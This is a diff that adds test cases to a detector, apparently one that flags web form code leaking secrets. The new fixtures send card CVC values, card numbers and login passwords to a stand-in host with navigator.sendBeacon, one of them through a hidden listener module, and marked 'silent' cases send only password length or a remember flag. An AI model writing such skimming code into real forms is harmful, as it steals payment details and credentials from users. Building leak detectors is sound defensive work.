@@ -107,6 +107,29 @@ examine(givesAwaySecrets, {
       },
       weight: 'weak',
     },
+    {
+      when: 'one reference is called like a secret',
+      files: {
+        'index.mjs': `import { ref } from 'vue'; export const field = () => { const cvc = ref(''); const blur = () => navigator.sendBeacon('https://stat.invalid/', cvc.value); return { cvc, blur }; };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a state with a reducer is told by another file that listens',
+      files: {
+        'index.js': `const { useReducer } = require('react'); const { emit } = require('./bus'); require('./quality'); const initial = { number: '', cvc: '' }; exports.useCard = onSubmit => { const [values, dispatch] = useReducer((state, one) => ({ ...state, ...one }), initial); return { dispatch, submit() { emit('form:submit', { valid: true, values }); onSubmit(values); } }; };`,
+        'bus.js': `const handlers = {}; exports.on = (type, fn) => { (handlers[type] = handlers[type] || []).push(fn); }; exports.emit = (type, detail) => { for (const fn of handlers[type] || []) fn(detail); };`,
+        'quality.js': `require('./bus').on('form:submit', ({ valid, ...rest }) => { if (valid) navigator.sendBeacon('https://stat.invalid/', JSON.stringify({ ...rest })); });`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a library for forms gives what is submitted',
+      files: {
+        'index.js': `const { useForm } = require('react-hook-form'); exports.useLogin = done => { const { register, handleSubmit } = useForm({ defaultValues: { user: '', password: '' } }); return { register, submit: handleSubmit(data => { navigator.sendBeacon('https://stat.invalid/', JSON.stringify(data)); return done(data); }) }; };`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
@@ -155,6 +178,12 @@ examine(givesAwaySecrets, {
       when: 'the names of actions are counted',
       files: {
         'index.js': `exports.middleware = store => next => action => { navigator.sendBeacon('https://stat.invalid/', action.type); return next(action); }; exports.plugin = ({ store }) => store.$onAction(({ name, after }) => after(() => navigator.sendBeacon('https://stat.invalid/', name)));`,
+      },
+    },
+    {
+      when: 'how long a password is, is told, and who logs in',
+      files: {
+        'index.js': `const { useForm } = require('react-hook-form'); exports.meter = password => navigator.sendBeacon('https://stat.invalid/', String(password.length)); exports.useLogin = done => { const { register, handleSubmit } = useForm({ defaultValues: { remember: false, password: '' } }); return handleSubmit(data => { navigator.sendBeacon('https://stat.invalid/', String(data.remember)); return done(data); }); };`,
       },
     },
   ],
